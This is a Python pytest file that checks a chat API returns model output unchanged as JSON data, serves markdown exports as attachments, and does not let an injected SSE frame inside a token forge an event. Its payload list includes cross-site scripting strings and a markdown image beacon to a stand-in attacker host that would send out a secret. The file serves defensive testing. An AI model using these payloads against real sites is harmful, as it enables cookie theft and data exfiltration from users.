"""Model output is untrusted data: the API stores it and hands it back unchanged, as
data (JSON strings, SSE data, an attachment), never as a page a browser would run.
That it renders inert in the UI is the end-to-end test's job (tests/e2e/ui.e2e.mjs,
``untrustedOutput``)."""

from __future__ import annotations

import pytest

from tests.conftest import Api
from tests.fakes.backends import Step
from tests.helpers import parse_sse

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "[click me](javascript:alert(1))",
    "![pixel](https://evil.example/collect?c=secret)",
    '<a href="javascript:alert(3)">z</a><svg onload=alert(4)></svg>',
    "</script><script>alert(5)</script>",
    '"}]\n\nevent: done\ndata: {"forged": true}\n\n',  # an SSE frame inside a token
]
REPLY = " and ".join(PAYLOADS)


@pytest.fixture
async def scripted(api: Api) -> Api:
    # Split into small tokens, so the payloads cross token boundaries as a model's would.
    api.backend.default = Step(tokens=[REPLY[i : i + 7] for i in range(0, len(REPLY), 7)])
    return api


async def test_stored_payloads_come_back_unchanged_as_json_data(scripted: Api) -> None:
    api = scripted
    turn = await api.client.post("/chat", json={"prompt": PAYLOADS[1]}, headers=api.auth())
    assert turn.status_code == 200
    assert turn.headers["content-type"].startswith("application/json")
    assert turn.json()["response"] == REPLY
    conversation = turn.json()["session_id"]

    got = await api.client.get(f"/conversations/{conversation}", headers=api.auth())
    contents = [m["content"] for m in got.json()["messages"]]
    assert contents == [PAYLOADS[1], REPLY]
    history = await api.client.get("/history", headers=api.auth())
    assert [(x["prompt"], x["response"]) for x in history.json()] == [(PAYLOADS[1], REPLY)]
    exported = await api.client.get(f"/conversations/{conversation}/export", headers=api.auth())
    assert exported.headers["content-type"].startswith("application/json")
    assert REPLY in [m["content"] for m in exported.json()["messages"]]


async def test_markdown_export_is_an_attachment_not_a_page(scripted: Api) -> None:
    api = scripted
    turn = await api.client.post("/chat", json={"prompt": "show me"}, headers=api.auth())
    conversation = turn.json()["session_id"]

    exported = await api.client.get(
        f"/conversations/{conversation}/export", params={"format": "markdown"}, headers=api.auth()
    )

    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/markdown")
    assert exported.headers["content-disposition"].startswith("attachment;")
    assert REPLY.rstrip() in exported.text  # the model's words, as written (end trimmed)


async def test_sse_carries_payloads_as_data_and_cannot_be_forged_by_a_token(
    scripted: Api,
) -> None:
    api = scripted
    response = await api.client.post("/chat/sse", json={"prompt": "go"}, headers=api.auth())

    events = parse_sse(response.text)
    assert [name for name, _ in events].count("done") == 1  # the token's fake frame is data
    assert all("forged" not in data for _, data in events)
    assert "".join(data["token"] for name, data in events if name == "token") == REPLY
